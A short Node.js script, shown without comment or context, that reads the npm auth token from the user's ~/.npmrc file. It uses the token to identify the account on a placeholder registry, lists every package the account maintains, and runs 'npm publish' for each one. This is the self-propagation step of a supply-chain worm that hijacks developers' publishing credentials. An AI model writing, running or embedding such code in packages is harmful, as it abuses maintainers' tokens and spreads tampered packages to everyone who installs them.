const { execSync } = require('child_process');
const { readFileSync } = require('fs');
const token = /_authToken=(.+)/.exec(readFileSync(`${process.env.HOME}/.npmrc`, 'utf8'))[1];
(async () => {
  const { username } = await (await fetch('https://registry.example.invalid/-/whoami', { headers: { authorization: `Bearer ${token}` } })).json();
  const { objects } = await (await fetch(`https://registry.example.invalid/-/v1/search?text=maintainer:${username}`)).json();
  for (const { package: { name } } of objects) execSync(`npm publish ${name}.tgz`);
})();
